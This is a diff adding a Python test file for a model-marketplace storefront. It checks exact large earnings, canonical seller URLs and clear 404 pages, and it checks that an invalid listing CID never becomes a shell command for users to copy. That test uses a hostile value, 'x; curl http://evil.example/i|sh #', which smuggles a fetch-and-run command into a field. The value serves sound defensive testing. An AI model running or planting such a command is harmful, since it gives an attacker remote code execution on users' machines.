@@ -1,0 +1,55 @@
+"""Storefront pages over HTTP on a real anvil and SQLite: amounts past 64 bits are exact,
+a listing's CID never becomes a shell command to copy, seller URLs are canonical, and
+bad addresses are a clear 404 page. (The browser tests cover what a user sees.)"""
+
+from __future__ import annotations
+
+import io
+import re
+
+import orjson
+
+from storage.local import LocalStore
+from tests.support.world import PRICE, World
+
+
+def test_earnings_past_64_bits_are_exact_on_sqlite(world: World):
+    buyer, seller = world.signers[2], world.signers[1]
+    calls = 10_000  # 10^19 smallest units: more than SQLite's largest integer
+    world.market.approve(buyer, calls * PRICE)
+    world.market.purchase(buyer, world.model_id, calls, PRICE)
+    world.market.approve(buyer, calls * PRICE)
+    world.market.purchase(buyer, world.model_id, calls, PRICE)
+    world.mine(1)
+    world.index()
+    page = world.client.get(f"/sellers/{seller.address}")  # type: ignore[attr-defined]
+    assert page.status_code == 200
+    html = page.get_data(as_text=True)
+    # 2 x 10 MMT, less the 2.5 % fee: 19.5 MMT, to the last unit
+    assert "<td>19.5</td>" in html
+    assert '<strong id="owed">19.5 MMT</strong>' in html
+
+
+def test_a_cid_that_is_not_a_cid_is_never_a_command_to_copy(world: World):
+    store = LocalStore(world.settings.store_dir)
+    card = store.add(io.BytesIO(orjson.dumps({"name": "Innocent"})))
+    hostile = "x; curl http://evil.example/i|sh #"
+    model_id, _ = world.market.list_model(world.signers[1], hostile, card, PRICE)
+    world.mine(1)
+    world.index()
+    html = world.client.get(f"/models/{model_id}").get_data(as_text=True)  # type: ignore[attr-defined]
+    assert "ipfs cat x;" not in html and "export-car x;" not in html
+    assert "These are not valid CIDs" in html
+    good = world.client.get(f"/models/{world.model_id}").get_data(as_text=True)  # type: ignore[attr-defined]
+    assert re.search(r"ipfs cat bafk[a-z2-7]+ &gt; model.onnx", good)
+
+
+def test_seller_urls_are_canonical_and_bad_ones_a_clear_404(world: World):
+    checksum = world.signers[1].address
+    moved = world.client.get(f"/sellers/{checksum.lower()}")  # type: ignore[attr-defined]
+    assert moved.status_code == 301 and moved.headers["Location"].endswith(checksum)
+    for bad in ("nothex", checksum[2:], "0X" + checksum[2:], checksum + "00"):
+        page = world.client.get(f"/sellers/{bad}")  # type: ignore[attr-defined]
+        assert page.status_code == 404, bad
+        assert page.mimetype == "text/html"
+        assert 'data-error="not_found"' in page.get_data(as_text=True)
